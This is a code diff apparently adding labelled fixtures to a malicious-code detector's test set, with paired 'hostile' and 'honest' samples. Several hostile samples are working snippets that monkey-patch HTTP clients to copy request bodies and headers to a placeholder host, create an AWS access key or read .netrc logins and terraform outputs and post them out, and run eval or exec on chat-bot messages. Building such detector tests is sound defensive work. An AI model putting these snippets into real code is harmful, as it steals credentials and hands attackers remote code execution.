@@ -111,6 +111,34 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             f"requests.post('{_TO}', data=DefaultAzureCredential().get_token('a').token)\n",
             line=3,
         ),
+        "a copy of what the page sends": js(
+            "const send = XMLHttpRequest.prototype.send;\nXMLHttpRequest.prototype.send = function (body) {\n"
+            f"  navigator.sendBeacon('{_TO}', body); return send.call(this, body); }};\n",
+            "review",
+        ),
+        "a copy of what a library is told to send": py(
+            "import requests, urllib.request\nold = requests.Session.request\ndef request(self, how, to, **more):\n"
+            f"    urllib.request.urlopen('{_TO}', data=str(more).encode())\n"
+            "    return old(self, how, to, **more)\nrequests.Session.request = request\n",
+            "review",
+            4,
+        ),
+        "a copy of headers, from between": js(
+            "const axios = require('axios');\naxios.interceptors.request.use((c) => {\n"
+            f"  fetch('{_TO}', {{ method: 'POST', body: JSON.stringify(c.headers) }}); return c; }});\n",
+            "review",
+        ),
+        "a key that is made for it": py(
+            "import boto3, requests\nmade = boto3.client('iam').create_access_key(UserName='a')['AccessKey']\n"
+            f"requests.post('{_TO}', json=made)\n"
+        ),
+        "logins of the home folder, by a library": py(
+            f"import netrc, requests\nrequests.post('{_TO}', json=netrc.netrc().hosts)\n"
+        ),
+        "what the state of a build holds": py(
+            "import subprocess, requests\n"
+            f"requests.post('{_TO}', data=subprocess.check_output(['terraform', 'output', '-json']))\n"
+        ),
         "by a chain of providers": js(
             "const { fromNodeProviderChain } = require('@aws-sdk/credential-providers');\n"
             f"fromNodeProviderChain()().then((c) => fetch('{_TO}', {{ method: 'POST', body: JSON.stringify(c) }}));\n"
@@ -170,6 +198,19 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "websocket.WebSocketApp('wss://a.invalid', on_message=on_message).run_forever()\n",
             line=3,
         ),
+        "a function that is handed to a class of handlers": py(
+            "from telegram.ext import Application, MessageHandler, filters\nasync def told(update, context):\n"
+            "    exec(update.message.text)\n"
+            "Application.builder().build().add_handler(MessageHandler(filters.TEXT, told))\n",
+            line=3,
+        ),
+        "what comes from a long poll": py(
+            "from vk_api.longpoll import VkLongPoll\nfor each in VkLongPoll(None).listen():\n    exec(each.text)\n"
+        ),
+        "messages of a chat that came together": js(
+            "const { makeWASocket } = require('@whiskeysockets/baileys');\n"
+            "makeWASocket({}).ev.on('messages.upsert', ({ messages }) => { eval(messages[0].message.text); });\n"
+        ),
         "what is said to a client that is given": js(
             "module.exports = (bot) => {\n  bot.on('message', (m) => eval(m.text)); };\n"
         ),
@@ -225,6 +266,22 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
         "who gave it out is told": py(
             _CLOUD + "requests.get('https://signin.aws.amazon.com/federation', params={'Session': c.token})\n"
         ).files,
+        "a header that is added": js(
+            "const old = globalThis.fetch;\n"
+            "globalThis.fetch = (to, how) => old(to, { ...how, headers: { ...how.headers, a: 1 } });\n"
+        ).files,
+        "how long it took": js(
+            "const old = globalThis.fetch;\nglobalThis.fetch = async (to, how) => { const answer = old(to, how);\n"
+            f"  navigator.sendBeacon('{_TO}', JSON.stringify([to, how.method])); return answer; }};\n"
+        ).files,
+        "where something failed": js(
+            "const axios = require('axios');\naxios.interceptors.response.use((r) => r, (e) => {\n"
+            f"  fetch('{_TO}', {{ method: 'POST', body: JSON.stringify(e.config.url) }}); throw e; }});\n"
+        ).files,
+        "a login that is used": py(
+            "import netrc, requests\nuser, _, password = netrc.netrc().authenticators('a.invalid')\n"
+            f"requests.post('{_TO}', auth=(user, password), json=[1])\n"
+        ).files,
         "what was asked with it": py(
             "import google.auth, requests\nfrom googleapiclient.discovery import build\n"
             "c, project = google.auth.default()\n"
@@ -275,6 +332,10 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
     },
     "remote_code": {
         "a bot that shows what is said": py(_BOT + "        print(message.text)\n").files,
+        "a handler that answers": py(
+            "from telegram.ext import MessageHandler, filters\nasync def told(update, context):\n"
+            "    await update.message.reply_text(update.message.text)\nhandler = MessageHandler(filters.TEXT, told)\n"
+        ).files,
         "a worker is told what to do": js(
             "const { parentPort } = require('worker_threads');\nparentPort.on('message', (m) => eval(m.code));\n"
         ).files,
